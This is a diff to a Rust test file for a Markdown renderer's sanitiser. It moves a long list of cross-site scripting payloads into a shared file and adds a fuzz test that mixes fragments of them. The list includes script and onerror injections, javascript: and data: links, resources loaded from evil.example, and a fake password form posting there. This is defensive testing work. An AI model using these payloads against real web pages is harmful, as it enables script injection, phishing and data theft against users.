@@ -1,78 +1,15 @@
 //! Text that means harm. Whatever it says, it is shown and does nothing: no
 //! request, no link, no control, no look of the app's own parts.
 
+use proptest::prelude::*;
+
 use crate::web::markdown::{Sealer, block, render};
 
-const PAYLOADS: &[&str] = &[
-    "![p](https://evil.example/a.png)",
-    "![p](https://evil.example/a.png \"title\")",
-    "![p][r]\n\n[r]: https://evil.example/a.png",
-    "[r]: https://evil.example/a.png\n\n![p][r] ![r] [r]",
-    "[a](javascript:alert(1))",
-    "[a](JaVaScRiPt:alert(1))",
-    "[a](java\tscript:alert(1))",
-    "[a](<java\nscript:alert(1)>)",
-    "[a](&#106;avascript:alert(1))",
-    "[a](data:text/html;base64,PHNjcmlwdD4=)",
-    "[a](vbscript:x)",
-    "[a](file:///etc/passwd)",
-    "[a](mailto:x@evil.example?body=grades)",
-    "[a](//evil.example)",
-    "[a](https://good.example@evil.example/)",
-    "[a](https://xn--ggle-0nda.example/)",
-    "[https://good.example](https://evil.example)",
-    "[a](https://evil.example/?q=\"onmouseover=x)",
-    "<https://evil.example/>",
-    "<javascript:alert(1)>",
-    "https://evil.example/auto www.evil.example a@evil.example",
-    "[![p](https://evil.example/i)](https://evil.example/l)",
-    "[a]: javascript:alert(1)\n\n[a]",
-    "<script>alert(1)</script>",
-    "<script src=//evil.example></script>",
-    "<ScRiPt\n>alert(1)</sCrIpT\n>",
-    "<img src=x onerror=alert(1)>",
-    "<img src=\"https://evil.example/i.png\">",
-    "<svg onload=alert(1)><image href=\"https://evil.example\"/></svg>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<iframe src=https://evil.example></iframe>",
-    "<object data=https://evil.example></object><embed src=https://evil.example>",
-    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
-    "<base href=https://evil.example/>",
-    "<link rel=stylesheet href=https://evil.example/a.css>",
-    "<style>@import 'https://evil.example/a.css'</style>",
-    "<p style=\"background:url(https://evil.example)\">x</p>",
-    "<div class=\"receipt good\" data-key=r1><span class=stamp>Sent 14:02</span></div>",
-    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
-    "<form class=\"letter\" action=\"/approvals/1\"><button name=decision value=send>Approve</button></form>",
-    "<details open ontoggle=alert(1)><summary>x</summary></details>",
-    "<a href=https://evil.example>x</a>",
-    "<a href=\"/auth/logout\" id=side popover>x</a>",
-    "<video poster=https://evil.example><audio src=https://evil.example>",
-    "<table background=https://evil.example><td onclick=x>",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<![CDATA[<img src=x onerror=alert(1)>]]>",
-    "<?php <img src=x onerror=alert(1)> ?>",
-    "<template><img src=x onerror=alert(1)></template>",
-    "| <img src=x onerror=alert(1)> | [a](javascript:x) |\n|---|---|\n| <script>x</script> | ![p](https://evil.example) |",
-    "| a\" onfocus=alert(1) autofocus x=\" |\n|---|\n| b |",
-    "> <img src=x>\n> - <script>x</script>\n>   1. [a](javascript:x)",
-    "```html\n<img src=x onerror=alert(1)>\n```\n<img src=x>",
-    "```\" onclick=alert(1)\nx\n```",
-    "```<script>\nx\n```",
-    "<ol start=\"1 onclick=x\"><li>x</ol>",
-    "~~~\n</code></pre><script>x</script>\n~~~",
-    "`</code><img src=x>`",
-    "- [x] <input type=checkbox onclick=x>\n- [ ] box",
-    "x[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
-    "$$\\href{javascript:x}{y}$$ \\(x\\)",
-    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x&#62;",
-    "\u{0}<img src=x\u{0}onerror=alert(1)>",
-    "# <img src=x> [a](javascript:x) {#side onclick=x}",
-    "<div class=\"sheet\" role=\"region\" tabindex=\"0\" aria-label=\"x\">",
-    "<td class=\"warn\">At risk</td>",
-    "**Sent ✔ 14:02** to Mateo\n\n[Approve](/approvals/1)",
-];
+// The same texts are shown in a browser (tests/browser/sink.rs).
+#[path = "../../../../tests/payloads.rs"]
+mod payloads;
+
+use payloads::PAYLOADS;
 
 const TAGS: [&str; 23] = [
     "p",
@@ -189,5 +126,33 @@ fn deep_nesting_ends_in_plain_text() {
         let started = std::time::Instant::now();
         census(render(&sign.repeat(times)).as_str(), sign);
         assert!(started.elapsed().as_secs() < 10, "{sign:?} took {:?}", started.elapsed());
+    }
+}
+
+/// Words that mean something to a reader of Markdown or of HTML, in any order.
+fn any_harm() -> impl Strategy<Value = String> {
+    let piece = prop_oneof![
+        3 => prop::sample::select(vec![
+            "<", ">", "/", "\"", "'", "`", "![", "](", ")", "[", "]", "](<", "]: ", "&lt;", "&#60;", "&#x3c;", "<!--", "-->",
+            "<![CDATA[", "]]>", "<?", "?>", "\n", "\n\n", "    ", "\t", "> ", "- ", "1. ", "|", "---|---\n", "```", "~~~", "# ",
+            "\u{0}", "\\", "\u{e00a}", "=", " ",
+        ]).prop_map(str::to_owned),
+        2 => prop::sample::select(vec![
+            "img", "script", "svg", "math", "mtext", "mglyph", "style", "iframe", "a", "form", "meta", "base", "table", "td",
+            "template", "noscript", "title", "textarea", "plaintext", "onerror", "href", "src", "class", "id", "style",
+            "javascript:", "https://evil.example", "data:", "foreignObject", "annotation-xml", "select", "p", "div",
+        ]).prop_map(str::to_owned),
+        1 => prop::sample::select(PAYLOADS).prop_map(str::to_owned),
+        1 => "\\PC{0,8}",
+    ];
+    prop::collection::vec(piece, 0..12).prop_map(|pieces| pieces.concat())
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 10_000, failure_persistence: None, ..ProptestConfig::default() })]
+
+    #[test]
+    fn no_mixture_of_harm_becomes_more_than_text(text in any_harm()) {
+        census(render(&text).as_str(), &text);
     }
 }
